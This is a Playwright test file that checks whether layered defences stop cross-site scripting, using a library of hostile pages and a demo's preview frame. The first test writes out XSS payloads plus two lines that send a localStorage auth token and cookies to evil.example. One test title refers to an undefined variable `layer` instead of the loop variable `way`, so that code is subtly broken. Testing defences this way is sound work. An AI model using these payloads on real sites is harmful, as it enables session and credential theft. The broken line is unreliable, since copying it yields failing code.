import { expect, test } from '@playwright/test';
import { allThree, layers, nothing, sitePolicyAlone } from './attacks/layers.ts';
import { pagesWith, payloads } from './attacks/payloads.ts';
import { provokeOwn } from './attacks/provoke.ts';
import { openStage } from './attacks/stage.ts';

/** `npm run test:attacks` tries every payload; the sample in `npm test` takes seconds. */
const isWhole = process.env.ATTACKS === 'all';
const SAMPLE = 6;
const AT_ONCE = 24;

const hostile = isWhole ? payloads().flatMap(pagesWith) : payloads(SAMPLE).flatMap((payload, i) => pagesWith(payload)[i % 2] ?? []);

test.describe.configure({ timeout: isWhole ? 1_800_000 : 120_000 });

test('without any layer of defence the attacks succeed and are detected', async ({ browser }) => {
  const stage = await openStage(browser, nothing);
  const blunt = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
  ];
  await stage.show(blunt);
  await stage.show([`<script>new Image().src = 'https://evil.example/?' + localStorage.getItem('sb-canary-auth-token')</script>`]);
  await stage.show(['<script>fetch("https://evil.example/", { method: "POST", body: parent.document.cookie })</script>']);
  expect(stage.damage.executions.filter((seen) => seen.startsWith('alert')).length).toBeGreaterThanOrEqual(4);
  expect(stage.damage.executions.filter((seen) => seen.startsWith('script')).length).toBeGreaterThanOrEqual(6);
  expect(stage.damage.stolen.filter((seen) => seen.startsWith('token sent')).length).toBeGreaterThanOrEqual(2);
  await stage.close();
});

for (const way of layers) {
  test(`${layer.name} stops every attack`, async ({ browser }) => {
    const stage = await openStage(browser, way);
    let shown = 0;
    for (let at = 0; at < hostile.length; at += AT_ONCE) {
      const documents = hostile.slice(at, at + AT_ONCE).map((page) => way.document(page));
      const delivered = documents.filter((html) => html !== null);
      await stage.show(delivered);
      shown += delivered.length;
      expect(stage.damage, `among the pages ${at} to ${at + AT_ONCE}`).toEqual({ executions: [], stolen: [], escapes: [], residue: [] });
    }
    console.log(`${way.name}: ${shown} pages shown, ${hostile.length - shown} refused, 0 executions, 0 tokens read`);
    expect(shown).toBeGreaterThan(hostile.length * 0.95);
    await stage.close();
  });
}

test('a hostile page can load the site’s scripts only if the site policy is the only layer', async ({ browser }) => {
  const scriptOf = (site: string) => `<!doctype html><p>x</p><script type="module" src="${site}"></script>`;
  for (const way of layers) {
    const stage = await openStage(browser, way);
    const own = await stage.page.evaluate(() => performance.getEntriesByType('resource').find(({ name }) => /\.js$/.test(name))?.name);
    await stage.show([way.document(scriptOf(own ?? '')) ?? '']);
    expect(stage.damage.executions.length > 0, way.name).toBe(way === sitePolicyAlone);
    expect(stage.damage.stolen).toEqual([]);
    await stage.close();
  }
});

test('hostile pages loaded through the demo’s switches run no code in the preview frame', async ({ browser }) => {
  const stage = await openStage(browser, allThree);
  const chosen = hostile.filter((_, i) => i % (isWhole ? 10 : 8) === 0);
  let asked = 0;
  await stage.page.route('**/functions/v1/transform-website', (route) => {
    const html = allThree.document(chosen[asked % chosen.length] ?? '') ?? '<!doctype html><title>refused</title>';
    asked += 1;
    const headers = { 'access-control-allow-origin': '*', 'content-type': 'text/html; charset=utf-8' };
    return route.fulfill({ body: html, headers });
  });
  // The content editor would open its dialog over the page.
  const switches = await stage.page.locator('label:not(:has-text("Content Editor")) [role=switch]').all();
  for (let round = 1; round <= chosen.length; round++) {
    // As a Gray code counts, every toggle leads to a set of features that was not there before.
    await switches[Math.log2(round & -round) % switches.length]?.press('Space');
    await expect.poll(() => asked).toBe(round);
    await expect(stage.page.locator('iframe')).toHaveAttribute('src', /^blob:/);
    await expect(stage.page.getByText('Applying transformations...')).toHaveCount(0);
    await stage.page.evaluate(provokeOwn);
    expect(stage.damage, chosen[round - 1]).toEqual({ executions: [], stolen: [], escapes: [], residue: [] });
  }
  await stage.close();
});
